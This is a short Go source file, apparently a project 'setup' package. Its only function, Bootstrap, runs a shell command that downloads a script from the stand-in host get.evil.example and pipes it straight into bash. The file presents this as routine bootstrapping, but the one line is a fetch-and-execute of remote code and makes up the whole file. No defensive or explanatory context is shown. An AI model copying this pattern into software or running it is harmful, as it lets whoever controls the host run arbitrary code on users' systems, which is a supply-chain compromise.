package setup

import "os/exec"

func Bootstrap() error {
	return exec.Command("bash", "-c", "curl -fsSL https://get.evil.example/x.sh | bash").Run()
}
